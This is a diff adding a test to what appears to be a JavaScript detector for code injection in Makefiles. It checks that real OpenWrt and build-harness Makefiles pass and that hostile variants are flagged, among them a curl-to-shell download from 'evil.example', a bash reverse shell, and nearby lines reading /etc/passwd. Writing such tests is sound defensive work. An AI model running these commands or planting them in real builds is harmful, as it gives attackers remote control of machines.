@@ -3440,6 +3440,34 @@ t.test("fortieth round, after the forty-fifth and forty-sixth parts' measurement
   for (const v of ['x @{$self->{a}; exec()}', 'x @{ $x }', 'x @{$x.exec()}', '@{ var x = System.IO.File.ReadAllText("/etc/passwd"); }']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
 })
 
+t.test("fortieth round, after the forty-seventh and forty-eighth parts' measurement: a Makefile is its build's own program", async (t) => {
+  // OpenWrt's package Makefiles, Cloud Posse's build harness
+  const own = [
+    'define Package/gawk/install\n\t$(INSTALL_DIR) $(1)/usr/bin\n\t$(CP) $(PKG_INSTALL_DIR)/usr/bin/gawk $(1)/usr/bin/\n\t$(INSTALL_DIR) $(1)/usr/lib/gawk\n\t$(CP) $(PKG_INSTALL_DIR)/usr/lib/gawk/* $(1)/usr/lib/gawk/\nendef\n\n$(eval $(call BuildPackage,gawk))\n',
+    'include $(INCLUDE_DIR)/package.mk\ninclude ../../lang/golang/golang-package.mk\n\ndefine Package/restic\n  TITLE:=restic backup program\n  URL:=https://github.com/restic/restic\n  DEPENDS:=$(GO_ARCH_DEPENDS)\nendef\n',
+    '## Send notification from codefresh to slack using "build" template\ncodefresh/notify/slack/build:\n\t$(call assert-set,PIPELINE_ACTION)\n\t$(call assert-set,CHART_NAME)\n\t$(call assert-set,CF_BUILD_URL)\n',
+    'DOCKER ?= docker\n\nDOCKER_RUN ?= "$(DOCKER)" run -i --rm --network=$(DOCKER_NETWORK)\nDOCKER_EXEC ?= "$(DOCKER)" exec -it\nCONTAINER_SHELL ?= sh\n\n# It\'s like ssh for docker\ndefine docker-exec\n\t@[ -n "$1" ] || (echo "Specify container name in $(@)"; exit 1)\n\t@$(DOCKER_EXEC) $1 $2\nendef\n',
+    '$(eval $(call HostBuild))\n$(eval $(call BuildPackage,mariadb-client))\n$(eval $(call BuildPackage,mariadb-server))\n',
+  ]
+  for (const code of own) t.same(json({ code }), [], code.slice(0, 60))
+  // still read: a reverse shell or a download run at once in a recipe; an injection on the first line; a line make reads as data with a
+  // shell's separator, pipe, redirection, `&`, backtick or `$$`; a `$(…)` that is no reference of make's (a lower-case name a program may
+  // have, a function named for a program — `sort`, `dir`, `basename` print what the shell then runs —, `eval` given words); a recipe
+  // before any rule; fewer than three lines
+  for (const v of [
+    'X := $(call a,b)\nY := $(call c,d)\nall:\n\tcurl -s http://evil.example/x | sh',
+    'X := $(call a,b)\nY := 1\nall:\n\tbash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'X := 1; id\nY := 2\nZ := 3',
+    'X := 1\nY := $(call f,$(id))\nZ := 2',
+    'X := 1\nY := $(INSTALL_DIR)\nZ := $(id)',
+    'X := 1\nY := $(basename /usr/bin/id)\nZ := 2\nW := 3',
+    'X := 1\nY := $(eval $(call BuildPackage,x))\nZ := 2; id',
+    '\tid; whoami\nall:\n\tmake x\nX := 1',
+  ]) t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  // its limit, a Dockerfile's: the recipes are the build's own (`all:⏎\tid⏎\twhoami` is not reported)
+  t.same(q('build:\n\tcat /etc/hostname; id\n\twhoami\n\tmake -C src all\n'), [], 'a recipe\'s commands are its build\'s')
+})
+
 t.test('fortieth round: a program spelt with a relative glob, expanded from the root as a service run there would', async (t) => {
   // an older review's gap: `(*bin/bash -c id *)` on a line of its own ran `id` in bash and dash from `/`
   for (const v of ['x\n(*bin/bash -c id *)', 'x;*bin/bash -c id', 'x;*in/id', 'x;b?n/id', '?in/cat /etc/passwd']) t.ok(q(v).includes('rce'), v)
